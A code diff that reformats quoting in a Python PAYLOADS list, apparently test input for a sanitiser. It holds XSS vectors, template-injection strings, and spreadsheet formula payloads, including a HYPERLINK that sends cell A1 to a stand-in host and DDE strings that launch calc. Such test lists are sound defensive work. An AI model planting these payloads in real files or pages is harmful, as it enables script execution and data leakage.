@@ -40,7 +40,7 @@ PAYLOADS = (
     "java\x0bscript:pwn()",
     "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=",
     '<a pwn href="javascript:pwn()">plaza</a>',
-    "[plaza](javascript:pwn()) ![x](x\"onerror=\"pwn()) <javascript:pwn()>",
+    '[plaza](javascript:pwn()) ![x](x"onerror="pwn()) <javascript:pwn()>',
     "<iframe pwn srcdoc='<script>parent.pwn()</script>'></iframe>",
     "<meta pwn http-equiv=refresh content='0;url=javascript:pwn()'><base pwn href=//pwn.example/>",
     # drawings and formulas
@@ -70,7 +70,7 @@ PAYLOADS = (
     "{# pwn #}{{ this.get_name() }}{% macro script(this, kwargs) %}pwn(){% endmacro %}",
     "%(pwn)s %s %n 100% {pwn} {0.__class__} <% pwn() %> [[${pwn}]]",
     # spreadsheets, queries, paths, headers
-    "=HYPERLINK(\"http://pwn.example/\"&A1,\"plaza\")",
+    '=HYPERLINK("http://pwn.example/"&A1,"plaza")',
     "+pwn|' /C calc'!A0",
     "@SUM(1+1)*pwn|' /C calc'!A0",
     "-2+3+pwn|' /C calc'!A0",
